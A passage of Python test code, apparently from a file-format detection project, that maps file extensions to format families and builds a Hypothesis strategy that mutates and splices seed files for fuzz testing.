    **dict.fromkeys(("odt", "ods", "odp"), "zip"),
    **dict.fromkeys(("fodt", "fods", "fodp"), "markup"),
    **{t: t for t in ("png", "jpeg", "webp", "tiff", "gif", "bmp")},
    **dict.fromkeys(("7z", "gzip", "bzip2", "xz", "zstd", "iso", "lzh", "rar", "tar", "cab"), "archive"),
}  # fmt: skip


def mutants(seeds: Sequence[Seed], max_steps: int = 3) -> st.SearchStrategy[Mutant]:
    """Seeds put through 1..max_steps mutators (three in four know the seed's format),
    sometimes spliced with another seed first."""

    @st.composite
    def build(draw: st.DrawFn) -> Mutant:
        seed = draw(st.sampled_from(seeds))
        data, steps = seed.data, []
        if len(seeds) > 1 and draw(st.integers(0, 9)) == 0:
            other = draw(st.sampled_from(seeds))
            cut, at = _index(draw, data, end=True), _index(draw, other.data, end=True)
            data = data[:cut] + other.data[at:]
            steps.append(f"splice {other.name}@{at} at {cut}")
        structured = FAMILY_MUTATORS[FAMILY_OF_TYPE[seed.type_name]]
        for _ in range(draw(st.integers(1, max_steps))):
            aware = structured and draw(st.integers(0, 3)) > 0
            data, step = draw(st.sampled_from(structured if aware else GENERIC))(draw, data)
            steps.append(step)
        return Mutant(seed.name, tuple(steps), data)

    return build()
